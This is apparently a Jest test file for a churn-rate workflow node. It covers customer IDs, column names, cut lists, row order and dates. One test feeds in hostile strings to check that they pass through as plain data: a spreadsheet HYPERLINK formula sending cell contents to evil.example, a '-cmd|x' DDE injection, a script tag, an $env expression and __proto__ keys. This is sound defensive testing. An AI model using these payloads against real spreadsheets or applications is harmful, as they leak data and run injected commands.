/** What every node promises, kept by this one in the real engine. DESIGN, "How every node behaves". */
import { rowsOfCase } from '../../support/cases';
import { deepFrozen } from '../../support/reading';
import { endEngine, flowOf, type NodeRun, runWorkflow } from '../../support/runWorkflow';

type Row = Record<string, unknown>;
const parameters = { operation: 'calculateChurnRate', churnWindow: 10 };
const run = (rows: Row[], settings: object = {}, flow: Parameters<typeof flowOf>[3] = {}) =>
	runWorkflow(flowOf(rows, 'churnRate', { ...parameters, ...settings }, flow), 'Node');
const warningsOf = ({ hints }: NodeRun) => hints.flatMap(({ type, message }) => (type === 'warning' ? [message] : []));
const withoutPairs = ({ outputs }: NodeRun) => outputs.map((items) => items.map(({ json }) => json));
const churnedOf = ({ outputs }: NodeRun) => outputs[1].map(({ json }) => json.customer);

/** One purchase on New Year's Day each, and a last one in March so that everybody else has left by then. */
const rowsOf = (customers: unknown[], more: Row = {}): Row[] => [
	...customers.map((customer_id) => ({ customer_id, date: '2024-01-01', amount: 10, ...more })),
	{ customer_id: 'zzz', date: '2024-03-31', amount: 10, ...more },
];

afterAll(endEngine);
afterEach(() => jest.restoreAllMocks());

it('one broken item in 100,000 is named by its row', async () => {
	const rows = Array.from({ length: 100_000 }, (_, index) => ({ customer_id: index + 1, date: index === 73_210 ? 'soon' : '2024-01-01', amount: 1 }));
	expect((await run(rows)).error?.message).toBe('Row 73211, column "date": the date cannot be read');
});

describe('customers', () => {
	it('with leading zeros stay text, each its own', async () => {
		expect(churnedOf(await run(rowsOf(['007', '07', '7'])))).toEqual(expect.arrayContaining(['007', '07', '7']));
	});

	it('that are numbers throughout stay numbers, sorted by size', async () => {
		const rows = rowsOf([10, 9, 100]).map((row) => (row.customer_id === 'zzz' ? { ...row, customer_id: 1000 } : row));
		expect(churnedOf(await run(rows))).toEqual([9, 10, 100]);
	});

	it('called 17850.0 are 17850 only where the setting says so', async () => {
		const rows = rowsOf(['17850', '17850.0']);
		expect(churnedOf(await run(rows))).toEqual(['17850', '17850.0']);
		expect(churnedOf(await run(rows, { writing: { customerIds: 'dropTrailingZero' } }))).toEqual(['17850']);
	});

	it('called 0 are nobody', async () => {
		const { outputs, hints } = await run(rowsOf([0, '0', 'ann']));
		expect(outputs[1].map(({ json }) => json.customer)).toEqual(['ann']);
		expect(hints[0].message).toContain('2 without a customer');
	});

	it('may be called by formulas, markup and expressions, which pass as data', async () => {
		const names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+380675550112', '-cmd|x', '@sum(a1)', '<script>alert(1)</script>', '{{ $env.HOME }}', '={{ 1 + 1 }}', '__proto__', 'Ann\nBob'];
		const result = await run(rowsOf(names, { plan: '=1+1' }), { groupBy: 'plan', options: { keepColumns: 'plan' } });
		expect(churnedOf(result)).toEqual([...names].sort());
		expect(result.outputs[1].every(({ json }) => json.plan === '=1+1' && json.group === '=1+1')).toBe(true);
		// A sentence that ends in a sheet begins with the period.
		for (const { json } of result.outputs[0]) expect(json.summary).toMatch(/^2024-\d\d/);
	});

	it('are sorted', async () => expect(churnedOf(await run(rowsOf(['b', '10', 'a', '9'])))).toEqual(['9', '10', 'a', 'b']));
});

describe('columns', () => {
	it('of any name can be kept: they travel as they are and pollute nothing', async () => {
		const odd = JSON.parse('{"__proto__": "proto", "constructor.name": "x", "a.b": "dotted", "a": {"b": "nested"}, "customer": "Ann", "": "none"}') as Row;
		const rows = rowsOf(['ann', 'bob']).map((row) => Object.defineProperties({ ...row }, Object.getOwnPropertyDescriptors(odd)) as Row);
		const { outputs } = await run(rows, { customerColumn: 'customer_id', options: { keepColumns: '__proto__, constructor.name, a.b, customer' } });
		const { json } = outputs[1][0];
		expect(Object.getOwnPropertyDescriptor(json, '__proto__')?.value).toBe('proto');
		expect([json['constructor.name'], json['a.b'], json.customer, json.customerKept]).toEqual(['x', 'dotted', 'ann', 'Ann']);
		expect(({} as Row).polluted).toBeUndefined();
	});

	it('below others are found and dragged', async () => {
		const rows = rowsOf(['ann', 'bob']).map(({ customer_id, ...row }) => ({ ...row, buyer: { id: customer_id, email: `${customer_id as string}@example.com` } }));
		expect(churnedOf(await run(rows))).toEqual(['ann', 'bob']);
		expect(churnedOf(await run(rows, { customerColumn: 'buyer["email"]' }))).toEqual(['ann@example.com', 'bob@example.com']);
	});
});

describe('a list that was cut', () => {
	const listOf = (count: number) => Array.from({ length: count }, (_, index) => ({ customer_id: index + 1, date: index % 2 ? '2024-01-01' : '2024-06-01', amount: 1 }));

	it.each([50, 100, 250])('at exactly %i items is pointed out', async (count) => {
		expect(warningsOf(await run(listOf(count)))).toContainEqual(expect.stringContaining(`exactly ${count} items`));
	});

	it('is not suspected at 51', async () => expect(warningsOf(await run(listOf(51))).join()).not.toContain('exactly'));

	it('to under 60 days is pointed out', async () => {
		const rows = [{ customer_id: 1, date: '2024-01-01', amount: 1 }, { customer_id: 2, date: '2024-01-31', amount: 1 }];
		expect(warningsOf(await run(rows))).toContain('The rows span 31 days. Churn needs a longer history: is the list cut short?');
	});

	it('to open orders is pointed out', async () => {
		expect(warningsOf(await run(listOf(7).map((row) => ({ ...row, status: 'open' })))).join()).toContain('Every order is open');
	});
});

describe('the same rows in another order', () => {
	const rows: Row[] = rowsOfCase('ChurnRate', 'groupBy').map((row, index) => ({
		...row,
		currency: index % 3 ? 'EUR' : 'USD',
		email: `${row.customer_id as string}${index % 2}@example.com`,
		phone: index % 4 ? '' : String(index),
	}));
	// Two values of one moment, so that neither is the later one.
	rows.push({ ...rows[0], plan: 'Gold', email: 'zoe9@example.com' }, { ...rows[0], plan: 'Basic', email: 'zoe5@example.com' });
	const orders = {
		reversed: [...rows].reverse(),
		rotated: [...rows.slice(5), ...rows.slice(0, 5)],
		interleaved: [...rows.filter((_, index) => index % 2), ...rows.filter((_, index) => index % 2 === 0)],
	};

	it.each(Object.entries(orders))('%s, give the same output', async (_, other) => {
		const settings = { groupBy: 'plan' };
		expect(withoutPairs(await run(other, settings))).toEqual(withoutPairs(await run(rows, settings)));
	});

	it('pair each churned customer with a row of that customer', async () => {
		for (const given of Object.values(orders)) {
			for (const { json, pairedItem } of (await run(given)).outputs[1]) {
				const row = given[(pairedItem as { item: number }).item];
				expect([row.customer_id, row.date]).toEqual([json.customer, json.lastPurchaseOn]);
			}
		}
	});
});

describe('As Of, automatic', () => {
	const rows = [{ customer_id: 1, date: '2024-01-01', amount: 1 }, { customer_id: 2, date: '2024-03-05', amount: 1 }];
	const asOf = async (now: string, timezone: string) => {
		jest.spyOn(Date, 'now').mockReturnValue(Date.parse(now));
		return (await run(rows, {}, { timezone })).outputs[0][0].json.asOf;
	};

	it('is today in the zone of the workflow, when the last row is at most 7 days old', async () => {
		expect(await asOf('2024-03-08T23:30:00Z', 'UTC')).toBe('2024-03-08');
		expect(await asOf('2024-03-08T23:30:00Z', 'Europe/Kyiv')).toBe('2024-03-09');
		expect(await asOf('2024-03-12T23:30:00Z', 'UTC')).toBe('2024-03-12');
	});

	it('is the day after the last row, when that is more than 7 days old in the zone of the workflow', async () => {
		expect(await asOf('2024-03-12T23:30:00Z', 'Europe/Kyiv')).toBe('2024-03-06');
		expect(await asOf('2024-03-13T00:30:00Z', 'UTC')).toBe('2024-03-06');
	});
});

it('input rows that nobody may write to are read all the same, also those that are wrong', async () => {
	const rows = deepFrozen([...rowsOf(['ann', 'bob']), { customer_id: 'cat', date: 'soon', amount: 1 }]);
	const before = JSON.stringify(rows);
	await run(rows, { unusableRows: 'leaveOut' }, { onError: 'continueErrorOutput' });
	expect(JSON.stringify(rows)).toBe(before);
});

it('a thousand empty items are the empty input too: items without a field give no rows and a hint', async () => {
	const { outputs, hints } = await run(Array.from({ length: 1000 }, () => ({})), {}, { onError: 'continueErrorOutput' });
	expect(outputs).toEqual([[], [], []]);
	expect(hints.map(({ message }) => message)).toEqual(['There are no rows: the input is empty.']);
});
